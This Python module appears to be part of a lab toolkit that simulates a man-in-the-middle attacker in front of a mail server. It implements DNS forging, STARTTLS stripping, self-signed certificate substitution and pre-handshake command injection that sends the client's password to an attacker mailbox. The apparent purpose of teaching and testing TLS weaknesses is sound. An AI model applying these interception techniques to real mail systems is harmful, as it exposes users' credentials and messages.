"""A man in the middle: a host that stands before a mail server, passes everything on, and meddles with TLS.

WHAT       `world.middle`. It listens on 25, 465 and 587 and hands each connection to the real server on the same port.
           `forge("strips")` leads those here who ask for the server's address, and says what is done to them;
           `relent()` ends that. `heard`: who has told a password; `letters`: what could be read; the rest is in
           the journal, as DIALOGUE.
ATTACKS    what it can do, by name; see middle_session.py for how.
RULES      it cannot forge the authority's signature: its certificate is self-signed, for its own name, expired.
SAFE       a password is not kept: only its length, and whether the real server took it.
STANDARDS  RFC 3207 §6 (attacks on STARTTLS), RFC 7435 (opportunistic security), RFC 8314 §3
READ NEXT  middle_session.py, tls_matrix.py
"""

from __future__ import annotations

import asyncio
import base64
import ssl
from collections.abc import Mapping
from types import MappingProxyType
from typing import TYPE_CHECKING

from labkit.lab.authority import KINDS
from labkit.lab.forged_name import ForgedName
from labkit.lab.middle_session import MiddleSession
from labkit.lab.outside_engine import OutsideEngine
from labkit.lab.outside_plans import MiddlePlan
from labkit.lab.overheard import Heard, Letter
from labkit.mail.event import EventKind
from labkit.mail.plainly import SaidPlainly
from labkit.net.network import Peer

if TYPE_CHECKING:
    from labkit.lab.host import Host

SMTP, IMPLICIT_TLS, SUBMISSION = 25, 465, 587
OWN = "own"  # a certificate: good, and for the name of this host
ATTACKS: Mapping[str, str] = MappingProxyType(
    {
        "none": "it passes everything on, and reads what can be read",
        "strips": "it takes STARTTLS out of the server's offer",
        "own certificate": "it ends the client's TLS with a certificate of its own, and begins another to the server",
        "injects": "it puts commands behind the client's STARTTLS, before the handshake",
        "answers": "it puts words behind the server's answer to STARTTLS, before the handshake",
    }
)
MOST_SESSIONS = 100


class NoSuchAttack(SaidPlainly, ValueError):
    """An attack or a certificate that there is not; the text says which there are."""


class MiddleEngine(OutsideEngine):
    """The man in the middle of a world: `world.middle`."""

    name = "middle"
    _ports = (SMTP, IMPLICIT_TLS, SUBMISSION)

    def __init__(self, host: Host, domains: tuple[str, ...], plan: MiddlePlan) -> None:
        super().__init__(host, domains)
        self.plan = plan
        self.stands_before = plan.stands_before
        self.attack = "none"
        self.certificate = plan.certificate
        self.heard: list[Heard] = []
        self.letters: list[Letter] = []
        self._forged = ForgedName(host.world, plan.stands_before, host.address)
        self._talks: set[MiddleSession] = set()

    @property
    def open_connections(self) -> int:
        """How many go through it right now."""
        return len(self._talks)

    # --- what it does -------------------------------------------------------------------------

    def forge(
        self, attack: str = "none", *, certificate: str | None = None, before: str | None = None
    ) -> None:
        """Lead those here who ask for the server's address, and do that to them: `attack` is one of ATTACKS.

        `before`: the name of the server, if not the one of the scenario, or of last time. `certificate` is one of
        authority.KINDS for the server's name, but `good`; or OWN: a good one for this host's name; None: the one of the
        scenario. Who is connected already is not affected.
        Raises NoSuchAttack, and LookupError if no zone has the name, or no host.
        """
        if attack not in ATTACKS:
            raise NoSuchAttack(f"there is no attack {attack!r}; there are {', '.join(ATTACKS)}")
        certificate = self.plan.certificate if certificate is None else certificate
        if certificate not in (OWN, *KINDS) or certificate == "good":
            kinds = ", ".join(kind for kind in (OWN, *KINDS) if kind != "good")
            raise NoSuchAttack(f"it cannot have a certificate {certificate!r}; it can have: {kinds}")
        if before is not None and before != self.stands_before:
            victim = self.host.world.host(before)
            self.relent()
            self.stands_before = victim.name
            self._forged = ForgedName(self.host.world, victim.name, self.host.address)
        self.attack, self.certificate = attack, certificate
        self._forged.forge()

    def relent(self) -> None:
        """Let the DNS say the truth again."""
        self._forged.relent()

    def forget(self) -> None:
        """Begin to listen anew: what was overheard so far is forgotten."""
        self.heard.clear()
        self.letters.clear()

    # --- what a session asks ------------------------------------------------------------------

    def begins_with_tls(self, port: int) -> bool:
        return port == IMPLICIT_TLS

    def upgrades(self, port: int) -> bool:
        """Whether, with the offer stripped, TLS is begun with the server all the same: else nothing would be taken."""
        return port != SMTP

    def server_context(self) -> ssl.SSLContext:
        """For TLS with the client."""
        from labkit.net.tls_contexts import server_context

        is_own = self.certificate == OWN
        name, kind = (self.host.name, "good") if is_own else (self.stands_before, self.certificate)
        return server_context(self.host.world.authority.certificate_for(name, kind))

    def client_context(self) -> ssl.SSLContext:
        """For TLS with the server, whoever it is."""
        from labkit.net.tls_contexts import Wants, client_context

        return client_context(wants=Wants.NOTHING)

    def injection(self, port: int) -> bytes:
        """The commands that make a letter to the attacker of all that the client will say, its password included."""
        plan = self.plan
        lines = [f"EHLO {self.host.name}"]
        if port != SMTP and plan.login:
            secret = base64.b64encode(f"\0{plan.login}\0{plan.password}".encode()).decode()
            lines.append(f"AUTH PLAIN {secret}")
        own = self.own_address
        lines += [f"MAIL FROM:<{own}>", f"RCPT TO:<{own}>", "DATA"]
        lines += [
            f"From: {own}",
            "Subject: what the client said",
            "",
        ]  # all that follows is the letter's body
        return "".join(f"{line}\r\n" for line in lines).encode()

    @property
    def own_address(self) -> str:
        """Where the attacker wants letters."""
        return self.plan.address or f"mallory@{self.domains[0]}"

    @property
    def early_answer(self) -> bytes:
        """What a client would take for the answer to its EHLO inside of TLS."""
        return f"250-{self.stands_before} Hello\r\n250 AUTH PLAIN LOGIN\r\n".encode()

    def hear(self, heard: Heard) -> None:
        self.heard.append(heard)

    def read(self, letter: Letter) -> None:
        self.letters.append(letter)

    def note_line(self, session: MiddleSession, speaker: str, text: str, state: str) -> None:
        self.host.world.note(
            self.host.name,
            EventKind.DIALOGUE,
            session=session.number,
            remote_address=session.peer.address,
            speaker=speaker,
            text=text,
            state=state,
        )

    # --- the daemon ---------------------------------------------------------------------------

    def _accept(self, port: int, peer: Peer) -> asyncio.BaseProtocol:
        if len(self._talks) >= MOST_SESSIONS:
            raise ConnectionAbortedError(f"{self.host.name} holds {MOST_SESSIONS} connections already")
        session = MiddleSession(self, peer, port, self.next_session())
        self._talks.add(session)
        return session.client

    def forget_session(self, session: MiddleSession) -> None:
        self._talks.discard(session)

    def _hang_up(self) -> None:
        super()._hang_up()
        for session in tuple(self._talks):
            session.close()
